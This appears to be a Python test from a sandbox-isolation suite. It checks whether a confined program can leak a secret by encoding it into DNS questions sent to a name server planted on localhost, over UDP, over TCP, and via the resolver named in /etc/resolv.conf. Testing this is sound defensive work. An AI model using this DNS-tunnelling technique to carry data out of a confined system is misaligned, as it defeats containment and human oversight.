"""Carry a secret out in questions to a name server: there is none to ask.

Wherever a program may ask for names, it may send what it likes: each question is a message to
whoever owns the name.  The host plants a name server.
"""

import contextlib
import socket
import struct
from collections.abc import Iterator

from attempt import FACTS, Blocked, attempt

_SECRET = b"secret"
#: The question: an address for secret.example
_QUESTION = (
    struct.pack("!6H", 7, 0x100, 1, 0, 0, 0)
    + bytes([len(_SECRET)])
    + _SECRET
    + b"\x07example\0"
    + struct.pack("!HH", 1, 1)
)


def _ask(host: str, port: int) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.connect((host, port))
        made.send(_QUESTION)
        made.settimeout(1)
        with contextlib.suppress(TimeoutError):
            made.recv(1)
        return "asked, and nobody was there to refuse it"


def by_udp() -> str:
    return _ask("127.0.0.1", FACTS["udp_port"])


def by_tcp() -> str:
    with socket.create_connection(("127.0.0.1", FACTS["tcp_port"]), timeout=3) as made:
        made.sendall(struct.pack("!H", len(_QUESTION)) + _QUESTION)
        return f"asked {made.getpeername()}"


def _configured() -> Iterator[str]:
    with open("/etc/resolv.conf") as file:
        for line in file:
            words = line.split()
            if words[:1] == ["nameserver"] and ":" not in words[1]:
                yield words[1]


def way_to_the_configured() -> str:
    """Nothing is sent; a machine without one is asked for the host's planted one."""
    if FACTS["level"] == "outside":
        return _ask("127.0.0.1", FACTS["udp_port"])
    for server in _configured():
        if server.startswith("127."):
            continue
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
            made.connect((server, 53))
            return f"{server} can be reached"
    raise Blocked("no name server is configured")


attempt({"udp": by_udp, "tcp": by_tcp, "configured": way_to_the_configured})
